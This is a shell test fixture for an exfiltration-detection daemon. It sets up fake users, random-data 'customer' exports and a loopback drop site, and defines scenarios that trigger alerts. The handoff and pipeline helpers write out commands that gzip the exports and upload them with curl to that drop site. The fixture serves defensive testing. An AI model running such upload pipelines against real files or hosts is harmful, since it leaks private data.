# SPDX-License-Identifier: GPL-2.0-only
# What the lineage tests share: people, customer exports under a watched tree, a shared
# folder, a drop site on 127.200.10.77:18080 (egress; the allowlist keeps 127.0.0.0/9, so
# other tests' loopback traffic on the same machine is not egress here), a config whose
# thresholds every scenario stays under except detect.exfil, the daemon with its own
# label pin directory, and alert queries. Source after itest.sh; LINEAGE_SERVICE names a
# source service; LINEAGE_DEFAULTS keeps the product's default thresholds (below).

DROP=127.200.10.77:18080
SRC=$T/src
SHARE=$T/share
mkdir -p "$SRC" "$SHARE"
chmod a+rx "$T"
chmod 1777 "$SHARE"
for u in "alice 1101" "bob 1102" "carol 1103" "dave 1104" "erin 1105" "frank 1106" \
	"grace 1107" "heidi 1108"; do
	ensure_user $u
done
# Customer exports that do not compress away (gzip keeps about 3/4 of them): 3 MiB each,
# plus a 96 KiB extract.
for f in part1 part2 part3; do
	head -c $((3 * 1024 * 1024 * 3 / 4)) /dev/urandom | base64 -w 76 >"$SRC/customers-$f.csv"
done
head -c $((96 * 1024 * 3 / 4)) /dev/urandom | base64 -w 76 >"$SRC/customers-small.csv"
chmod -R a+rX "$SRC"

python3 "$LIB/dropsite.py" --addr "${DROP%:*}" --port "${DROP#*:}" --count "$T/drop.count" \
	>"$T/drop.out" 2>&1 &
itest_on_exit "kill $!"
wait_until 30 grep -q ready "$T/drop.out" || die "drop site"

# LINEAGE_DEFAULTS=1: the product's default thresholds (no detect section) and a sync
# folder $T/sync (an egress key, hence right after egress.allow; so is the detect
# section otherwise): CONFIG_MORE holds the one that applies.
if [ -n "${LINEAGE_DEFAULTS:-}" ]; then
	mkdir -p "$T/sync" && chmod 1777 "$T/sync"
	CONFIG_MORE="  sync_folders: [\"$T/sync\"]"
else
	CONFIG_MORE="detect:
  window: 10m
  bulk_read: 50MiB
  bulk_objects: 2000
  exfil: 1MiB
  lookback: 1h
  staging: 50MiB
  drip: 200MiB/24h"
fi
cat >"$T/exfilmon.yaml" <<YAML
sources:
  paths: ["$SRC"]
  services: [${LINEAGE_SERVICE:+"$LINEAGE_SERVICE"}]
egress:
  allow: ["127.0.0.0/9"]
$CONFIG_MORE
$(itest_config_tail)
YAML
# Our own pin directory: a daemon of another test may be running beside this one.
export EXFILMON_PIN_DIR=/sys/fs/bpf/exfilmon-test-lineage-$$
itest_on_exit "rm -rf $EXFILMON_PIN_DIR"
start_daemon() {
	rm -f "$T/status.json"
	"$BUILD/exfilmond" -c "$T/exfilmon.yaml" --status "$T/status.json" --stderr \
		--log-level info 2>>"$T/daemon.log" &
	DAEMON=$!
	itest_on_exit "kill $DAEMON; wait $DAEMON"
	wait_until 60 test -s "$T/status.json" || { cat "$T/daemon.log"; die "daemon did not start"; }
}
start_daemon

# sensor_integrity alerts are left out: on a shared machine they can come from other
# tests (another test's media mount learned into the sinks map, say), not from ours.
alerts() { python3 "$LIB/alerts.py" "$T/alerts.jsonl" --exclude-rule sensor_integrity "$@"; }
derived() { alerts count --rule derived_exfiltration "$@"; }
# wait_alert ARGS...: until a derived_exfiltration alert matching ARGS is there (the
# issue's target is 5 s; the wait allows a loaded host and the emulated guests). A
# missing alert still fails: the check after the wait reads the count.
has_derived() { [ "$(derived "$@")" -ge 1 ]; }
wait_alert() { wait_until 45 has_derived "$@"; }
# labels_counted WHAT: every label in the pinned maps lies under a slot of the running
# daemon that counts it (the programs skip the lookup under a zero count).
labels_counted() {
	local n
	read -r n UNCOUNTED < <(python3 "$LIB/label_counts.py" "$EXFILMON_PIN_DIR" "$DAEMON")
	check_ge "$1: labels in the maps" "${n:-0}" 1
	check "$1: every label counted in its slot" "$UNCOUNTED" 0
}
upload() { echo "curl -sS -T $1 http://$DROP/upload -o /dev/null"; }
# handoff: alice copies an export to the shared folder, bob uploads it; sets A and B to
# their sessions and waits for bob's alert.
handoff() {
	in_session 1101 "$T/alice.info" cp "$SRC/customers-part1.csv" "$SHARE/for-bob.csv" ||
		die "alice workload"
	in_session 1102 "$T/bob.info" bash -c "$(upload "$SHARE/for-bob.csv")" || die "bob workload"
	A=$(info_session "$T/alice.info"); B=$(info_session "$T/bob.info")
	wait_alert --session "$B"
}
# pipeline: carol runs cat | gzip | curl on an export; sets C and waits for her alert.
pipeline() {
	in_session 1103 "$T/carol.info" bash -c \
		"cat $SRC/customers-part2.csv | gzip -1 | curl -sS --data-binary @- http://$DROP/upload -o /dev/null" ||
		die "carol workload"
	C=$(info_session "$T/carol.info")
	wait_alert --session "$C"
}
